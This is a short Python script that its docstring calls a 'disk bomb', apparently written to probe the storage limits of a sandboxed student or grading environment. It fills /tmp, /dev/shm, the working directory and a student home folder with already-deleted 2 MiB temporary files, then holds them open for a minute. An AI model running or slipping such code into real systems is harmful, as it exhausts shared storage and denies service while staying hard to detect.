"""A disk bomb: large files in every place that can be written, deleted ones among them."""

# %% own
import contextlib, tempfile, time

kept = []
for place in (".", "/tmp", "/dev/shm", "/run/kernel", "/home/student"):
    for number in range(40):
        with contextlib.suppress(OSError):
            file = tempfile.TemporaryFile(dir=place)
            kept.append(file)
            file.write(bytes(2**21))
            file.flush()
time.sleep(60)
